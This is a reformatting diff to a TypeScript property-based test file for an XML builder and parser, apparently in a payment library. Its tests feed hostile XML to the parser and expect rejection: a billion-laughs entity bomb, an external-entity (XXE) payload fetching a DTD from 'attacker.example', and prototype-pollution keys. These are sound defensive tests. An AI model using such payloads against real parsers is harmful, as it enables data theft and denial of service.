@@ -20,10 +20,20 @@ const plain = (fields: Record<string, string>) => ({ ...fields });
 
 const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'];
 /** Names that exist on Object.prototype: a naive parser mistakes them for repeated or inherited fields. */
-const INHERITED_NAMES = ['toString', 'valueOf', 'hasOwnProperty', 'isPrototypeOf', '__defineGetter__', '__lookupSetter__'];
+const INHERITED_NAMES = [
+  'toString',
+  'valueOf',
+  'hasOwnProperty',
+  'isPrototypeOf',
+  '__defineGetter__',
+  '__lookupSetter__',
+];
 
 const fieldName = fc.oneof(
-  { weight: 8, arbitrary: fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,24}$/).filter((n) => !PROTOTYPE_KEYS.includes(n)) },
+  {
+    weight: 8,
+    arbitrary: fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,24}$/).filter((n) => !PROTOTYPE_KEYS.includes(n)),
+  },
   { weight: 1, arbitrary: fc.constantFrom(...INHERITED_NAMES, 'xml', 'sign', 'coupon_fee_0', '_') },
 );
 
@@ -32,7 +42,27 @@ const fieldName = fc.oneof(
  * handling turns every CR into LF before the parser sees it (tested separately below).
  */
 const xmlChar = fc.oneof(
-  { weight: 4, arbitrary: fc.constantFrom(']]>', ']]', ']', '<', '>', '&', '&amp;', '&lt;', '"', "'", '\t', '\n', ' ', '<![CDATA[', '<!', '0') },
+  {
+    weight: 4,
+    arbitrary: fc.constantFrom(
+      ']]>',
+      ']]',
+      ']',
+      '<',
+      '>',
+      '&',
+      '&amp;',
+      '&lt;',
+      '"',
+      "'",
+      '\t',
+      '\n',
+      ' ',
+      '<![CDATA[',
+      '<!',
+      '0',
+    ),
+  },
   { weight: 6, arbitrary: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCodePoint(c)) },
   { weight: 2, arbitrary: fc.integer({ min: 0xa0, max: 0xd7ff }).map((c) => String.fromCodePoint(c)) },
   { weight: 1, arbitrary: fc.integer({ min: 0xe000, max: 0xfffd }).map((c) => String.fromCodePoint(c)) },
@@ -72,7 +102,18 @@ describe('buildXml → parseXml', () => {
   });
 
   it('keeps values as the exact strings sent: no number, boolean or trimming conversions', () => {
-    const fields = { a: '007', b: '1e3', c: 'true', d: '0x10', e: ' 12 ', f: '', g: 'null', h: '-0', i: '1.50', j: 'NaN' };
+    const fields = {
+      a: '007',
+      b: '1e3',
+      c: 'true',
+      d: '0x10',
+      e: ' 12 ',
+      f: '',
+      g: 'null',
+      h: '-0',
+      i: '1.50',
+      j: 'NaN',
+    };
     const parsed = parseXml(buildXml(fields));
     expect(plain(parsed)).toEqual(fields);
     // the same values without CDATA
@@ -158,7 +199,8 @@ describe('parseXml rejects hostile or malformed input with MALFORMED', () => {
   <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
 ]>
 <xml><a>&lol9;</a></xml>`;
-  const parameterEntity = '<!DOCTYPE xml [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><xml><a>1</a></xml>';
+  const parameterEntity =
+    '<!DOCTYPE xml [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><xml><a>1</a></xml>';
   const deep = (levels: number) => `<xml>${'<a>'.repeat(levels)}1${'</a>'.repeat(levels)}</xml>`;
 
   it.each([
@@ -202,7 +244,9 @@ describe('parseXml rejects hostile or malformed input with MALFORMED', () => {
     expectMalformed(() => parseXml(buildXml({ attach: '<!DOCTYPE html>' })));
     expectMalformed(() => parseXml(buildXml({ attach: '<!ENTITY x "y">' })));
     expectMalformed(() => parseXml(buildXml({ attach: '<__proto__>' })));
-    expectMalformed(() => parseXml('<!-- <![CDATA[ --><!DOCTYPE xml [<!ENTITY e "v">]><!-- ]]> --><xml><a>&e;</a></xml>'));
+    expectMalformed(() =>
+      parseXml('<!-- <![CDATA[ --><!DOCTYPE xml [<!ENTITY e "v">]><!-- ]]> --><xml><a>&e;</a></xml>'),
+    );
   });
 
   it('rejects the wrong root when another root is expected', () => {
@@ -233,7 +277,32 @@ describe('parseXml rejects hostile or malformed input with MALFORMED', () => {
     const hostile = fc.oneof(
       fc.string({ maxLength: 200 }),
       fc
-        .array(fc.constantFrom('<xml>', '</xml>', '<a>', '</a>', '<__proto__>', '</__proto__>', '<constructor>', '<![CDATA[', ']]>', '<!DOCTYPE x [', '<!ENTITY e "v">', ']>', '&e;', '<polluted>', 'yes', '</polluted>', '<?xml version="1.0"?>', '<!--', '-->', '<toString>', '</toString>'), { maxLength: 20 })
+        .array(
+          fc.constantFrom(
+            '<xml>',
+            '</xml>',
+            '<a>',
+            '</a>',
+            '<__proto__>',
+            '</__proto__>',
+            '<constructor>',
+            '<![CDATA[',
+            ']]>',
+            '<!DOCTYPE x [',
+            '<!ENTITY e "v">',
+            ']>',
+            '&e;',
+            '<polluted>',
+            'yes',
+            '</polluted>',
+            '<?xml version="1.0"?>',
+            '<!--',
+            '-->',
+            '<toString>',
+            '</toString>',
+          ),
+          { maxLength: 20 },
+        )
         .map((parts) => parts.join('')),
     );
     fc.assert(
@@ -276,8 +345,12 @@ describe('parseXml edges (mutation-tested)', () => {
     expect(plain(parseXml('<?xml version="1.0"?><?pi x?><!--c--><?pi y?>\n<xml><a>1</a></xml>'))).toEqual({ a: '1' });
     expect(plain(parseXml('<xml><a>1</a></xml>\n<?pi x?>\n<!-- c -->\n'))).toEqual({ a: '1' });
     expect(plain(parseXml('<xml><!-->x--><a>1</a><!----></xml>'))).toEqual({ a: '1' });
-    expect(payErrorOf(() => parseXml('<xml><?pi x?><a>1</a></xml>')).reason).toBe('XML root holds a processing instruction');
-    expect(payErrorOf(() => parseXml('<xml><a>1</a><?pi x?></xml>')).reason).toBe('XML root holds a processing instruction');
+    expect(payErrorOf(() => parseXml('<xml><?pi x?><a>1</a></xml>')).reason).toBe(
+      'XML root holds a processing instruction',
+    );
+    expect(payErrorOf(() => parseXml('<xml><a>1</a><?pi x?></xml>')).reason).toBe(
+      'XML root holds a processing instruction',
+    );
   });
 
   it.each([
@@ -303,7 +376,9 @@ describe('parseXml edges (mutation-tested)', () => {
 
   it('refuses what the validator lets through: characters XML 1.0 forbids, and ]]> in text', () => {
     for (const c of ['\u0000', '\u0001', '\u0008', '\u000B', '\u000C', '\u001F', '\uFFFE', '\uFFFF']) {
-      expect(payErrorOf(() => parseXml(`<xml><a>x${c}y</a></xml>`)).reason, JSON.stringify(c)).toBe('XML holds characters XML 1.0 forbids');
+      expect(payErrorOf(() => parseXml(`<xml><a>x${c}y</a></xml>`)).reason, JSON.stringify(c)).toBe(
+        'XML holds characters XML 1.0 forbids',
+      );
     }
     expect(plain(parseXml('<xml><a>\ty\n</a></xml>'))).toEqual({ a: '\ty\n' });
     expect(payErrorOf(() => parseXml('<xml><a>x]]>y</a></xml>')).reason).toBe('XML text holds a CDATA end marker');
@@ -320,7 +395,11 @@ describe('parseXml edges (mutation-tested)', () => {
     expect(payErrorOf(() => parseXml('<xml><a>1<b/></a></xml>')).reason).toBe('XML field a is not plain text');
     const n64 = 'n'.repeat(64);
     const n65 = 'n'.repeat(65);
-    expect(payErrorOf(() => parseXml(`<xml><${n64}>1</${n64}><${n64}/></xml>`)).reason).toBe(`XML field ${n64} is repeated`);
-    expect(payErrorOf(() => parseXml(`<xml><${n65}>1</${n65}><${n65}/></xml>`)).reason).toBe('XML field (invalid name) is repeated');
+    expect(payErrorOf(() => parseXml(`<xml><${n64}>1</${n64}><${n64}/></xml>`)).reason).toBe(
+      `XML field ${n64} is repeated`,
+    );
+    expect(payErrorOf(() => parseXml(`<xml><${n65}>1</${n65}><${n65}/></xml>`)).reason).toBe(
+      'XML field (invalid name) is repeated',
+    );
   });
 });
